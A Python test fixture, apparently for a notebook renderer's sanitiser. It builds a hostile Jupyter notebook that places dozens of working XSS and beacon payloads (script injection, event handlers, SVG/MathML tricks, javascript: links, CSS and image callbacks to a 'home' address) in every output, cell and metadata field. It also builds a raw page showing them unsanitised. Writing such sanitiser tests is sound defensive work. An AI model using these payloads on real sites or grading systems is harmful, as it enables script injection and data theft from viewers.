"""A notebook that attacks whoever opens a page made from it: every kind of output, cell and metadata tries.

Each attack would mark the page (`MARK`) or call home. `raw_page` shows the same attacks to a browser without any
defence, which proves that they work there.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from typing import Any

MARK = "data-attacked"
PNG = base64.b64encode(
    base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
).decode()


def attacks(home: str) -> list[str]:
    """Return HTML that runs code or calls ``home``, an address that ends in a slash."""
    run = f"document.documentElement.setAttribute('{MARK}',1);new Image().src='{home}js'"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    encoded = base64.b64encode(svg.encode()).decode()
    return [
        f"<script>{run}</script>",
        f"<ScRiPt >{run}</sCrIpT\t>",
        f"<script src='{home}src.js'></script>",
        f"</script><script>{run}</script>",
        f"--></style></title></textarea></noscript></template></pre></code></span></div></main><script>{run}</script>",
        f'<img src=x onerror="{run}">',
        f'<img/src/onerror="{run}">',
        f"<img src='{home}img.png'>",
        f"<img srcset='{home}srcset.png 1x'>",
        f"<img src='//{home.partition('//')[2]}protocol-relative.png'>",
        svg,
        f"<svg><use href='data:image/svg+xml;base64,{encoded}#x'/></svg>",
        f'<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
        f"<svg><image href='{home}svg-image.png'/></svg>",
        f'<svg><style><img src=x onerror="{run}"></style></svg>',
        f'<svg><foreignObject><iframe srcdoc="<script>parent.{run}</script>"></iframe></foreignObject></svg>',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
        f'<math><mtext></p><style><img src=x onerror="{run}"></style></mtext></math>',
        f'<noscript><p title="</noscript><img src=x onerror={run}>">',
        f"<iframe src='{home}frame'></iframe>",
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
        f"<object data='{home}object'></object><embed src='{home}embed'>",
        f"<object data='data:image/svg+xml;base64,{encoded}'></object>",
        f"<link rel=stylesheet href='{home}style.css'><link rel=prefetch href='{home}prefetch'>",
        f"<style>@import '{home}import.css'; body {{ background: url({home}background.png) }}</style>",
        f'<div style="background: url({home}inline.png)">x</div>',
        f"<table background='{home}table.png'><tr><td background='{home}td.png'>x</table>",
        f"<video poster='{home}poster.png' src='{home}video' autoplay onloadstart=\"{run}\"></video>",
        f"<audio src='{home}audio' autoplay></audio><source src='{home}source'>",
        f'<input autofocus onfocus="{run}"><details open ontoggle="{run}">x</details>',
        f'<body onload="{run}"><marquee onstart="{run}">x</marquee>',
        f"<form action='{home}form'><button autofocus>x</button></form>",
        f"<a href='javascript:{run}' autofocus onfocus=\"{run}\">x</a>",
        f"<a href='&#106;avascript:{run}'>x</a><a href='java\tscript:{run}'>x</a><a href='data:text/html,{run}'>x</a>",
        f"<template shadowrootmode=open><script>{run}</script><img src='{home}shadow.png'></template>",
        f"<p id=__proto__ class=grade name=body style='animation: x' onanimationstart=\"{run}\" contenteditable>x</p>",
        f"<x-element onclick=\"{run}\" style='position:fixed'>x</x-element><plaintext>",
        f"&lt;script&gt;{run}&lt;/script&gt;",
        f"<![CDATA[<script>{run}</script>]]><?php <script>{run}</script> ?><!-- --!><script>{run}</script> -->",
        f"<meta http-equiv=refresh content='600;url={home}refresh'><base href='{home}'><img src='base.png'>",
    ]


def hostile_notebook(home: str) -> dict[str, Any]:
    """Return a notebook of nbformat 4 with the attacks in every place that can hold text."""
    html = attacks(home)
    everything = "\n".join(html)
    run = f"document.documentElement.setAttribute('{MARK}',1)"
    outputs: list[dict[str, Any]] = [_rich({"text/html": attack}) for attack in html]
    outputs += [_rich({"text/markdown": attack}) for attack in html]
    other = {
        "image/svg+xml": html[10],
        "application/javascript": f"{run}; fetch('{home}javascript')",
        "text/javascript": run,
        "application/pdf": PNG,
        "application/json": {"x": everything},
        "application/vnd.jupyter.widget-view+json": {"model_id": everything, "version_major": 2},
        "application/vnd.plotly.v1+json": {"data": [everything]},
        "application/vnd.autograder.checks+json": [
            {"title": everything, "message": everything, "status": everything, "score": 99}
        ],
        "text/vnd.mermaid": f'graph TD; A["{html[5]}"]',
        "text/html; charset=utf-7": "+ADw-script+AD4-",
        everything: everything,
    }
    outputs += [_rich({kind: data}) for kind, data in other.items()]
    outputs += [_rich({"text/latex": text}) for text in _latex(html, home, run)]
    outputs += [_rich({"text/plain": everything}), _rich({"text/html": list(html)})]
    for kind in ("image/png", "image/jpeg", "image/gif"):
        outputs += [
            _rich({kind: f'{PNG}" onerror="{run}'}),
            _rich({kind: f"x'><script>{run}</script>"}),
            _rich({kind: base64.b64encode(html[10].encode()).decode()}),
        ]
    terminal = f'\x1b[31m{everything}\x1b]8;;{home}terminal\x07x\x1b]8;;\x07\x1b[38;5;1"onclick={run}m\x9b\x00\u202e'
    outputs += [
        {"output_type": "stream", "name": "stdout", "text": terminal},
        {"output_type": "stream", "name": everything, "text": [terminal]},
        {"output_type": "error", "ename": everything, "evalue": everything, "traceback": [terminal, everything]},
        {"output_type": "error", "ename": everything, "evalue": everything, "traceback": []},
        {"output_type": everything},
    ]
    markdown = [
        *html,
        everything,
        *[f"${text}$ $${text}$$" for text in _latex(html, home, run)],
        f"![x]({home}markdown.png) ![x](javascript:{run}) [x](javascript:{run}) <{home}auto>\n\n[x]: javascript:{run}",
        f"![x](attachment:a.png) ![x](attachment:b.png) ![{html[5]}](attachment:c.svg)",
        f"```{everything}\n{everything}\n```\n`{everything}`",
        f"| {html[0]} | $x$ |\n|-|-|\n| {html[5]} | ![x]({home}cell.png) |",
        f'<div\n\n{html[0]}\n\n<img src="{html[5]}',
    ]
    attached = {
        "a.png": {"image/png": f'{PNG}" onerror="{run}'},
        "b.png": {"text/html": everything},
        "c.svg": {"image/svg+xml": html[10]},
    }
    cells = [_cell("markdown", text, everything, attachments=attached) for text in markdown]
    cells += [_cell("raw", everything, everything), _cell("code", f'"""{everything}"""', everything, outputs=[])]
    # A page shows a few dozen outputs of a cell.
    cells += [_cell("code", html[0], everything, outputs=outputs[at : at + 20]) for at in range(0, len(outputs), 20)]
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"title": everything, "kernelspec": {"name": everything}, "widgets": {everything: everything}},
        "cells": cells,
    }


def raw_page(home: str) -> str:
    """Return a page that shows one attack of each kind that needs no interaction, as they are."""
    chosen = [attack for attack in attacks(home) if "--></style>" not in attack and "plaintext" not in attack]
    return "<!DOCTYPE html><meta charset=utf-8><body>" + "\n".join(f"<div>{attack}</div>" for attack in chosen)


def _latex(html: list[str], home: str, run: str) -> list[str]:
    return [
        rf"\text{{{html[0]}}}",
        rf"\text{{{html[5]}}}",
        html[5],
        rf"\href{{javascript:{run}}}{{x}}",
        rf"\class{{x}}{{y}}\style{{background: url({home}latex.png)}}{{z}}\cssId{{x}}{{y}}",
        rf"\unicode{{x}}\require{{x}}\includegraphics{{{home}include.png}}\html{{{html[0]}}}",
        rf"\mathrm{{{html[10]}}}\color{{red;background:url({home}colour.png)}}{{x}}",
        r"x</math><script>" + run + "</script>",
    ]


def _rich(data: Mapping[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "data": dict(data), "metadata": {key: {"width": key} for key in data}}


def _cell(kind: str, source: str, text: str, **fields: Any) -> dict[str, Any]:
    return {
        "cell_type": kind,
        "id": text,
        "source": source,
        "metadata": {"tags": [text], "nbgrader": {"grade_id": text, "solution": True}, "name": text},
        **fields,
    }
